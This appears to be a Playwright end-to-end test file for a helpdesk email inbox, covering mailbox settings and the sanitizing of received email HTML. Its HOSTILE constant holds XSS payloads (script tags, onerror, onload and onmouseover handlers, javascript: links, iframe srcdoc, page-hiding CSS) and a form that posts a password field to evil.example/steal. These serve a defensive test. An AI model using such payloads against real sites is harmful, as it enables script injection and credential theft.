import { randomUUID } from "node:crypto";
import nodemailer, { type SendMailOptions } from "nodemailer";
import { expect, screenshot, test, type Api } from "./support/fixtures.ts";
import { smtpPort } from "./support/env.ts";

interface Mailbox {
  id: string;
  name: string;
  address: string;
  forwardingAddress: string;
}

async function createMailbox(api: Api, name: string): Promise<Mailbox> {
  return api.post<Mailbox>("/api/v1/mailboxes", { name, address: `${name.toLowerCase().replace(/\W+/g, "-")}-${randomUUID().slice(0, 8)}@shop.example` }, [201]);
}

/** Delivered to the server's SMTP listener, as a sending mail server would. */
async function deliver(mail: SendMailOptions): Promise<void> {
  const transport = nodemailer.createTransport({ host: "127.0.0.1", port: smtpPort, secure: false, ignoreTLS: true });
  try {
    await transport.sendMail(mail);
  } finally {
    transport.close();
  }
}

/** The conversation an email from this sender opened, once it is stored. */
async function conversationFrom(api: Api, email: string): Promise<{ id: string; number: number; subject: string }> {
  let found: { id: string; number: number; subject: string } | undefined;
  await expect
    .poll(async () => {
      const customers = await api.get<{ items: { id: string }[] }>(`/api/v1/customers?q=${encodeURIComponent(email)}`);
      if (!customers.items[0]) return false;
      const conversations = await api.get<{ items: { id: string; number: number; subject: string }[] }>(`/api/v1/conversations?customerId=${customers.items[0].id}`);
      found = conversations.items[0];
      return Boolean(found);
    })
    .toBe(true);
  return found!;
}

const HOSTILE = `
<style>body, #root, main { display: none !important; visibility: hidden !important; }</style>
<p>Hello, I need help with <b>order 4471</b>.</p>
<script>window.__pwned = 1; alert("script");</script>
<img src="x" onerror="window.__pwned = 1; alert('img')">
<p><a href="javascript:window.__pwned=1;alert('link')">click here for details</a></p>
<iframe src="javascript:parent.__pwned=1" srcdoc="<script>parent.__pwned=1</script>"></iframe>
<form action="https://evil.example/steal"><input name="password" value="secret field"><button>Steal</button></form>
<svg onload="window.__pwned = 1; alert('svg')"><circle r="5"></circle></svg>
<div onmouseover="window.__pwned = 1">Thanks in advance, Mallory</div>
`;

test.describe("email", () => {
  test("hostile HTML in a received email runs nothing in the agent app, and its text is shown", async ({ page, api }) => {
    const mailbox = await createMailbox(api, "Hostile");
    const sender = `mallory-${randomUUID().slice(0, 8)}@evil.example`;
    await deliver({
      from: `Mallory <${sender}>`,
      to: mailbox.address,
      subject: "Order trouble",
      text: "Hello, I need help with order 4471. Thanks in advance, Mallory",
      html: HOSTILE,
    });
    const conversation = await conversationFrom(api, sender);

    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`/app/inbox/open/${conversation.id}`);
    const timeline = page.getByRole("region", { name: "Messages and activity" });
    const message = timeline.getByRole("article").filter({ hasText: "order 4471" });
    await expect(message).toBeVisible();
    await expect(message).toContainText("Thanks in advance, Mallory");

    // The link's text stays, as text; following it must do nothing.
    const link = message.getByText("click here for details");
    await expect(link).toBeVisible();
    await link.click();
    await message.getByText("Thanks in advance, Mallory").hover();
    await page.waitForTimeout(300);

    expect(await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    await expect(page).toHaveURL(new RegExp(`/app/inbox/open/${conversation.id}`));
    // The style that would hide the page did not reach it.
    await expect(timeline).toBeVisible();
    await expect(page.locator("body")).toBeVisible();
    for (const selector of ["script", "iframe", "form", "input", "svg[onload]", "[onerror]", "[onmouseover]", "style", 'a[href^="javascript:"]']) {
      await expect(message.locator(selector), selector).toHaveCount(0);
    }
  });

  test("Settings → Mailboxes lists mailboxes, adds one, and tests its connection", async ({ page, api }) => {
    const existing = await createMailbox(api, "Returns");
    await page.goto("/app/settings/mailboxes");
    await expect(page.getByRole("heading", { name: "Mailboxes", level: 2 })).toBeVisible();
    const card = page.getByRole("listitem").filter({ has: page.getByRole("heading", { name: "Returns" }) }).filter({ hasText: existing.address });
    await expect(card).toBeVisible();
    await expect(card.getByRole("textbox", { name: "Forwarding address" })).toHaveValue(existing.forwardingAddress);

    const address = `billing-${randomUUID().slice(0, 8)}@shop.example`;
    await page.getByRole("button", { name: "Add mailbox" }).click();
    const dialog = page.getByRole("dialog", { name: "Add a mailbox" });
    await dialog.getByRole("textbox", { name: "Name", exact: true }).fill("Billing desk");
    await dialog.getByRole("textbox", { name: "Email address" }).fill(address);
    await dialog.getByRole("button", { name: "Add mailbox" }).click();
    await expect(dialog).toBeHidden();

    const added = page.getByRole("listitem").filter({ hasText: address });
    await expect(added.getByRole("heading", { name: "Billing desk" })).toBeVisible();
    await added.getByRole("button", { name: "Test the connection of Billing desk" }).click();
    await expect(added.getByRole("status")).toContainText("The SMTP listener is on");
    await screenshot(page, "settings-mailboxes");
  });
});
